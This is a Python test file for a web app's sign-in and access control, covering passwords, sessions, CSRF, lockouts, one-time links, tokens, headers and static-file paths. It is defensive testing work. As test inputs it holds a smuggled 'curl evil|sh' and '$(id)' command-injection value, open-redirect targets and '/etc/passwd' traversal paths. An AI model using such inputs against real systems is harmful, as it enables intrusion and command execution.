"""Who gets into the web page, and what keeps others out.

Over 300 lines: passwords, sessions, links and lock-outs are tried on one site.
"""

from __future__ import annotations

import sys
from typing import Annotated

import pytest
from fastapi import Depends
from sqlalchemy import select, update
from typer.testing import CliRunner

import cxr_node.web
from cxr_node.cli import app as command_line
from cxr_node.errors import CxrNodeError
from cxr_node.store.accounts import users
from cxr_node.store.audit_log import audit
from cxr_node.store.database import write
from cxr_node.store.schema import api_tokens, web_sessions
from cxr_node.store.schema import users as users_table
from cxr_node.web import passwords
from cxr_node.web.access import User, need
from cxr_node.web.sign_in import safe_target
from tests.web import PASSWORD, Site, form_token, sign_in

Viewer = Annotated[User, Depends(need("viewer"))]
Operator = Annotated[User, Depends(need("operator"))]


@pytest.fixture
def site(tmp_path):
    made = Site(tmp_path / "var")
    made.app.router.routes[:] = [route for route in made.app.router.routes if getattr(route, "path", "") != "/"]

    @made.app.get("/page")
    async def page(user: Viewer):
        return f"{user.name} {user.role}"

    @made.app.post("/change")
    async def change(user: Operator):
        return user.name

    yield made
    made.close()


def cookie(browser):
    return browser.cookies.get("cxr-node")


def test_a_page_sends_strangers_to_the_log_in_and_back(site):
    site.add_user()
    browser = site.browser()
    sent = browser.get("/page?a=1")
    assert (sent.status_code, sent.headers["location"]) == (303, "/login?next=/page%3Fa%3D1")
    assert 'value="/page?a=1"' in browser.get(sent.headers["location"]).text
    back = sign_in(browser, "ann", target="/page?a=1")
    assert back.headers["location"] == "/page?a=1"
    assert browser.get("/page").json() == "ann viewer"


def test_htmx_is_sent_to_the_log_in_as_a_whole_page(site):
    answer = site.browser().get("/page", headers={"HX-Request": "true"})
    assert (answer.status_code, answer.headers["hx-redirect"]) == (401, "/login")


def test_passwords_are_kept_as_argon2id(site):
    site.add_user()
    with site.store.engine.connect() as connection:
        kept = connection.execute(select(users_table.c.password_hash)).scalar()
    assert kept.startswith("$argon2id$")
    assert PASSWORD not in kept


@pytest.mark.parametrize(("name", "password"), [("ann", "wrong"), ("nobody", PASSWORD), ("", ""), ("ann", PASSWORD + " ")])
def test_a_wrong_name_and_a_wrong_password_are_told_alike(site, name, password):
    site.add_user()
    answer = sign_in(site.browser(), name, password)
    assert answer.status_code == 401
    assert "The name or the password is wrong." in answer.text
    assert site.events("login-refused") == [("login-refused", "failure", "ann" if name == "ann" else "")]


def test_a_session_that_was_planted_is_not_taken_on(site):
    site.add_user()
    browser = site.browser()
    browser.cookies.set("cxr-node", "planted", domain="127.0.0.1", path="/")
    sign_in(browser, "ann")
    assert {one.value for one in browser.cookies.jar if one.name == "cxr-node"} != {"planted"}
    assert site.browser().get("/page", headers={"Cookie": "cxr-node=planted"}).status_code == 303


def test_signing_in_again_ends_the_session_before(site):
    browser = site.signed_in()
    before = cookie(browser)
    token = form_token(site.browser().get("/login").text)
    answer = browser.post(
        "/login",
        data={"name": "viewer", "password": PASSWORD, "csrf_token": token},
        headers={"Cookie": f"cxr-node={before}; cxr-node-form={token}"},
    )
    assert answer.status_code == 303
    assert site.browser().get("/page", headers={"Cookie": f"cxr-node={before}"}).status_code == 303


def test_the_cookie_is_for_no_script_no_other_site_and_behind_tls_for_nothing_else(site):
    site.add_user()
    plain = sign_in(site.browser(), "ann").headers.get_list("set-cookie")[0]
    assert plain.startswith("cxr-node=")
    assert "HttpOnly" in plain
    assert "SameSite=lax" in plain
    assert "Secure" not in plain
    secure = sign_in(site.browser("https://127.0.0.1"), "ann").headers.get_list("set-cookie")[0]
    assert secure.startswith("__Host-cxr-node=")
    assert "Secure" in secure
    assert "Domain" not in secure


def test_logging_out_ends_the_session_on_the_server_too(site):
    browser = site.signed_in()
    kept = cookie(browser)
    csrf = users.session(site.store.engine, kept, 60).csrf
    assert browser.post("/logout", data={"csrf_token": csrf}).status_code == 303
    assert site.browser().get("/page", headers={"Cookie": f"cxr-node={kept}"}).status_code == 303
    assert [event for event, _, _ in site.events("user-logged-in", "user-logged-out")] == ["user-logged-in", "user-logged-out"]


@pytest.mark.parametrize("given", ["", "wrong", "ü"])
def test_a_change_without_the_csrf_token_is_refused(site, given):
    browser = site.signed_in("operator")
    assert browser.post("/change", data={"csrf_token": given}).status_code == 403
    assert browser.post("/change", headers={"X-CSRF-Token": given.encode()}).status_code == 403
    assert site.events("access-refused")


@pytest.mark.parametrize("by", ["form", "multipart", "header"])
def test_a_change_with_the_csrf_token_is_carried_out(site, by):
    browser = site.signed_in("operator")
    csrf = users.session(site.store.engine, cookie(browser), 60).csrf
    sent = {
        "form": {"data": {"csrf_token": csrf}},
        "multipart": {"data": {"csrf_token": csrf}, "files": {"file": b"x"}},
        "header": {"headers": {"X-CSRF-Token": csrf}},
    }[by]
    assert browser.post("/change", **sent).json() == "operator"


def test_another_user_s_csrf_token_does_not_do(site):
    theirs = users.session(site.store.engine, cookie(site.signed_in("operator")), 60).csrf
    other = site.signed_in("operator", "olga")
    assert other.post("/change", headers={"X-CSRF-Token": theirs}).status_code == 403


def test_the_log_in_itself_needs_the_token_of_its_form(site):
    site.add_user()
    answer = site.browser().post("/login", data={"name": "ann", "password": PASSWORD, "csrf_token": "x"})
    assert answer.status_code == 403


def test_a_session_ends_when_it_is_idle_and_after_its_time(site):
    browser = site.signed_in()
    assert browser.get("/page").status_code == 200
    seen_at = web_sessions.c.seen_at
    for values in ({"seen_at": seen_at - 31 * 60}, {"ends_at": web_sessions.c.created_at - 1}, {"seen_at": seen_at + 86400}):
        with write(site.store.engine) as connection:
            connection.execute(update(web_sessions).values(**values))
        assert browser.get("/page").status_code == 303
        with write(site.store.engine) as connection:
            connection.execute(update(web_sessions).values(seen_at=web_sessions.c.created_at, ends_at=2e9))


def test_what_the_page_asks_by_itself_keeps_no_session_alive(site):
    browser = site.signed_in()
    with write(site.store.engine) as connection:
        connection.execute(update(web_sessions).values(seen_at=web_sessions.c.seen_at - 100))
        before = connection.execute(select(web_sessions.c.seen_at)).scalar()
    for header, is_kept in (({"X-Background": "1"}, True), ({"Accept": "text/event-stream"}, True), ({}, False)):
        assert browser.get("/page", headers=header).status_code == 200
        with site.store.engine.connect() as connection:
            assert (connection.execute(select(web_sessions.c.seen_at)).scalar() == before) is is_kept


def test_disabling_a_user_or_another_role_or_password_counts_at_once(site):
    engine, browser = site.store.engine, site.signed_in()
    users.set_role(engine, "viewer", "auditor", "test")
    assert browser.get("/page").status_code == 403
    users.set_role(engine, "viewer", "viewer", "test")
    users.set_disabled(engine, "viewer", "test")
    assert browser.get("/page").status_code == 303
    assert sign_in(site.browser(), "viewer").status_code == 401


def test_a_log_in_that_waits_while_the_password_is_changed_begins_no_session(site, monkeypatch):
    site.add_user()

    def check(*_):
        users.set_password(site.store.engine, "ann", passwords.new_hash("another long password"), "test")
        return True

    monkeypatch.setattr(passwords, "is_right", check)
    browser = site.browser()
    assert sign_in(browser, "ann").status_code == 409
    assert browser.get("/page").status_code == 303
    assert site.events("user-logged-in") == []


def test_after_wrong_passwords_the_waits_grow(site):
    site.add_user()
    browser = site.browser()
    assert [sign_in(browser, "ann", "wrong").status_code for _ in range(3)] == [401] * 3
    locked = sign_in(browser, "ann")
    assert locked.status_code == 429
    assert 1 <= int(locked.headers["retry-after"]) <= 6
    assert sign_in(site.browser(client="192.0.2.9"), "ann").status_code == 303  # nobody is locked out by a stranger


def test_a_flood_of_refusals_leaves_a_few_rows_and_their_number_and_hides_nobody_elses(site):
    site.add_user("ann")
    flooding = site.browser(client="192.0.2.7")
    assert {flooding.get("/enter?key=guess").status_code for _ in range(60)} == {403}
    assert sign_in(flooding, "ann", "wrong password").status_code == 401
    assert sign_in(site.browser(client="192.0.2.9"), "ann", "wrong password").status_code == 401
    site.app.state.refusals.write()
    rows = [row["detail"] for row in audit.search(site.store.engine) if row["event"] == "login-refused"]
    assert rows.count("wrong name or password") == 2, "of another kind, or from elsewhere"
    (counted,) = [int(row.split()[0]) for row in rows if "more from this address" in row]
    assert rows.count("one-time link") + counted == 60
    assert rows.count("one-time link") <= 40


def test_a_machine_with_many_addresses_guesses_no_more_often_than_one(site):
    site.add_user("ann")
    answers = [sign_in(site.browser(client=f"2001:db8::{n:x}"), "ann", "wrong password").status_code for n in range(1, 6)]
    assert answers == [401, 401, 401, 429, 429]
    assert sign_in(site.browser(client="2001:db8:0:1::1"), "ann").status_code == 303


@pytest.mark.parametrize(
    "address",
    [
        *("/studies?since=2026-01-01&offset=99999999999999", "/studies?since=2026-01-01&offset=1500"),
        *("/audit?until=2026-01-01&offset=1500", "/queue?since=2026-01-01&offset=1500"),
        *(
            "/thumbnails/{big}",
            "/studies/1.2?image={big}",
            "/images/{big}/layers",
            "/images/{big}/state",
            "/images/{big}/source.dcm",
        ),
        *("/results/{big}.dcm", "/results/{big}/report", "/jobs/{big}", "/audit?before={big}", "/queue?before={big}"),
    ],
)
def test_numbers_and_times_that_no_database_counts_are_the_asker_s_mistake(site, address):
    assert site.signed_in("admin").get(address.format(big="9" * 30)).status_code == 422


def test_the_command_that_the_queue_shows_holds_nothing_of_another_s_making(site):
    page = site.signed_in("operator").get("/queue?state=held&x;curl evil|sh =1&study=$(id)").text
    assert "curl evil" not in page
    assert "--study &#39;$(id)&#39;" in page


@pytest.mark.parametrize(
    "given",
    ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)", "", "\\/x", "/\n/x", "/ x", "x"],
)
def test_the_log_in_leads_to_no_other_site(given):
    assert safe_target(given) == "/"


def test_the_one_time_link_works_once_here_and_without_users(site):
    site.app.state.link_key = "secret"
    for client, headers in (
        ("192.0.2.1", {}),
        ("127.0.0.1", {"X-Forwarded-For": "1.2.3.4"}),
        ("127.0.0.1", {"Host": "evil.example"}),
    ):
        assert site.browser(client=client).get("/enter?key=secret", headers=headers).status_code == 403
    assert site.browser().get("/enter?key=wrong").status_code == 403
    assert site.browser().get("/enter").status_code == 403
    browser = site.browser()
    assert browser.get("/enter?key=secret").status_code == 303
    assert browser.get("/page").json() == "local admin"
    assert site.browser().get("/enter?key=secret").status_code == 403
    assert site.browser(client="192.0.2.1").get("/page", headers={"Cookie": f"cxr-node={cookie(browser)}"}).status_code == 303


def test_with_users_the_link_is_closed_and_what_it_began_ends(site, tmp_path):
    site.app.state.link_key = "secret"
    browser = site.browser()
    browser.get("/enter?key=secret")
    config = tmp_path / "c.toml"
    config.write_text(f'[node]\ndata_dir = "{tmp_path / "var"}"\n')
    done = CliRunner().invoke(
        command_line, ["user", "add", "ann", "--role", "admin", "--password-stdin", "--config", str(config)], PASSWORD + "\n"
    )
    assert done.exit_code == 0, done.output
    assert browser.get("/page").status_code == 303
    site.app.state.link_key = "again"
    assert site.browser().get("/enter?key=again").status_code == 403
    assert sign_in(site.browser(), "ann").status_code == 303


def test_without_the_extra_web_a_user_cannot_be_added_and_the_message_says_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "argon2", None)
    monkeypatch.delitem(sys.modules, "cxr_node.web.passwords", raising=False)
    monkeypatch.delattr(cxr_node.web, "passwords", raising=False)
    for command in ("add", "passwd"):
        done = CliRunner().invoke(command_line, ["user", command, "ann", "--password-stdin"], PASSWORD + "\n")
        assert isinstance(done.exception, CxrNodeError)
        assert "pip install 'cxr-node[web]'" in str(done.exception)


def test_tokens_are_shown_once_kept_as_hashes_and_end(site, tmp_path):
    config = tmp_path / "c.toml"
    config.write_text(f'[node]\ndata_dir = "{tmp_path / "var"}"\n')
    made = CliRunner().invoke(command_line, ["token", "create", "--role", "viewer", "--days", "1", "--config", str(config)])
    secret = made.stdout.strip().splitlines()[0]
    assert secret.startswith("cxr_")
    browser = site.browser()
    browser.headers["Authorization"] = f"Bearer {secret}"
    assert browser.get("/page").json() == "api viewer"
    with site.store.engine.connect() as connection:
        assert secret not in repr(connection.execute(select(api_tokens)).all())
    with write(site.store.engine) as connection:
        connection.execute(update(api_tokens).values(expires_at=1.0))
    assert browser.get("/page").status_code == 303
    with write(site.store.engine) as connection:
        connection.execute(update(api_tokens).values(expires_at=9e9))
    assert browser.get("/page").status_code == 200
    CliRunner().invoke(command_line, ["token", "revoke", "1", "--config", str(config)])
    assert browser.get("/page").status_code == 303


def test_every_answer_has_its_security_headers(site):
    browser = site.browser()
    for path in ("/login", "/page", "/nowhere", "/api/v1/status", "/healthz", "/enter", "/static/nothing"):
        headers = browser.get(path).headers
        policy = headers["content-security-policy"]
        assert "unsafe" not in policy
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/static/../app.py", "/static/..%2fapp.py", "/static/%2e%2e/app.py", "/static//etc/passwd"])
def test_static_files_lead_nowhere_else(site, path):
    answer = site.browser().get(path)
    assert answer.status_code in (404, 405)
    assert "create_app" not in answer.text
